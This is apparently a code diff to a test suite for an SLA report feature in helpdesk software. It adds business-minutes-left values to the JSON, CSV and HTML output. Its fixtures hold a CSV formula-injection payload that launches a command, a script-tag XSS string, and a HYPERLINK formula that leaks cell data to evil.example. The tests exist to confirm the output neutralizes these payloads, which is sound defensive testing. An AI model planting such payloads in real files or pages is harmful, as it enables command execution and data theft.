@@ -79,7 +79,7 @@ describe('the report for a seeded history', () => {
       { key: 'standard', met: 3, missed: 1, attainment: 75 },
     ]);
     expect(r.atRisk).toEqual([
-      { caseId: ids.E, subject: NASTY, metric: 'firstResponse', policy: 'standard', queue: 'general', priority: 'urgent', dueAt: berlin('2026-03-03T11:05'), minutesLeft: 35 },
+      { caseId: ids.E, subject: NASTY, metric: 'firstResponse', policy: 'standard', queue: 'general', priority: 'urgent', dueAt: berlin('2026-03-03T11:05'), minutesLeft: 35, businessMinutesLeft: 35 },
     ]);
     expect(r.oldestWaiting.map((w) => [w.caseId, w.metric, w.state, w.assignee, w.waitedMinutes])).toEqual([
       [ids.B, 'firstResponse', 'breached', 'Dana', 24 * 60 + 30],
@@ -99,12 +99,12 @@ describe('the report for a seeded history', () => {
     const row = await createReport(d.h.services, { ...period, trigger: 'manual', timezone: 'Europe/Berlin' });
     expect(row.deliveryState).toBe('none'); // no SMTP_URL here
     const lines = row.csv.split('\r\n');
-    expect(lines[0]).toBe('section,case,subject,queue,from_queue,tier,policy,metric,priority,state,at,due_at,minutes,count,met,missed,attainment_percent,reason,rule');
+    expect(lines[0]).toBe('section,case,subject,queue,from_queue,tier,policy,metric,priority,state,at,due_at,minutes,count,met,missed,attainment_percent,reason,rule,business_minutes_left');
     expect(lines.at(-1)).toBe('');
     expect(lines.filter((l) => l.startsWith('"breach",'))).toHaveLength(3);
-    expect(lines).toContain(`"at_risk","${ids.E}","'=cmd|' /C calc'!A0, ""quoted"" <script>alert(1)</script>","general",,,"standard","firstResponse","urgent",,,"${berlin('2026-03-03T11:05')}",35,,,,,,`);
-    expect(lines).toContain('"attainment_by_queue",,,"general",,,,,,,,,,,3,1,75,,');
-    expect(lines).toContain('"summary",,,,,,,,,,,,,,3,3,50,"attainment",');
+    expect(lines).toContain(`"at_risk","${ids.E}","'=cmd|' /C calc'!A0, ""quoted"" <script>alert(1)</script>","general",,,"standard","firstResponse","urgent",,,"${berlin('2026-03-03T11:05')}",35,,,,,,,35`);
+    expect(lines).toContain('"attainment_by_queue",,,"general",,,,,,,,,,,3,1,75,,,');
+    expect(lines).toContain('"summary",,,,,,,,,,,,,,3,3,50,"attainment",,');
 
     expect(row.html).not.toContain('<script>');
     expect(row.html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
@@ -175,8 +175,8 @@ describe('the CSV formula guard end to end', () => {
       const csv = await (await desk.h.api('GET', `/api/v1/reports/${made.json.id}/report.csv`, { token: manager })).text();
       const guarded = `"'\t'=HYPERLINK(""http://evil.example/?""&A1,""SLA breached"")"`;
       expect(csv.split('\r\n').filter((l) => l.includes('HYPERLINK'))).toEqual([
-        expect.stringMatching(new RegExp(`^"escalation","${id}",.*,${guarded.replace(/[().?*+|]/g, '\\$&')},"Breached SLAs go to advanced support"$`)),
-        `"escalation_reason",,,,,,,,,,,,,1,,,,${guarded},`,
+        expect.stringMatching(new RegExp(`^"escalation","${id}",.*,${guarded.replace(/[().?*+|]/g, '\\$&')},"Breached SLAs go to advanced support",$`)),
+        `"escalation_reason",,,,,,,,,,,,,1,,,,${guarded},,`,
       ]);
       // Opened with TAB, semicolon, pipe or comma as the separator, no cell starts a formula.
       for (const separator of ['\t', ';', '|', ',']) {
@@ -199,5 +199,20 @@ describe('the scheduled report', () => {
     d.h.clock.set(berlin('2026-03-04T07:00'));
     const second = (await runScheduledReport(d.h.services))!;
     expect([second.periodStart, second.periodEnd]).toEqual([first.periodEnd, Date.parse(berlin('2026-03-04T07:00'))]);
+  });
+});
+
+describe('time left of an at-risk timer', () => {
+  it('is given in business minutes as well as on the clock (JSON, CSV, HTML)', async () => {
+    // Wednesday 16:45, urgent (1 business hour, office 09:00-17:00): 15 min today, 45 on Thursday.
+    d.h.clock.set(berlin('2026-03-04T16:45'));
+    const id = await d.create({ subject: 'Late caller', description: 'Nothing works as expected today', priority: 'urgent' });
+    d.h.clock.set(berlin('2026-03-04T16:50'));
+    const row = await createReport(d.h.services, { from: Date.parse(berlin('2026-03-04T00:00')), to: d.h.clock.now(), trigger: 'manual', timezone: 'Europe/Berlin', deliver: false });
+    const entry = (row.summary as unknown as { atRisk: Json[] }).atRisk.find((r) => r.caseId === id && r.metric === 'firstResponse');
+    // 55 business minutes of the hour are left; Thursday 09:45 is 16 h 55 min away on the clock.
+    expect(entry).toMatchObject({ dueAt: berlin('2026-03-05T09:45'), minutesLeft: 16 * 60 + 55, businessMinutesLeft: 55 });
+    expect(row.csv.split('\r\n').find((l) => l.startsWith(`"at_risk","${id}",`) && l.includes('"firstResponse"'))).toMatch(/,1015,,,,,,,55$/);
+    expect(row.html).toContain('<td class="n">55 min in business hours (16 h 55 min on the clock)</td>');
   });
 });
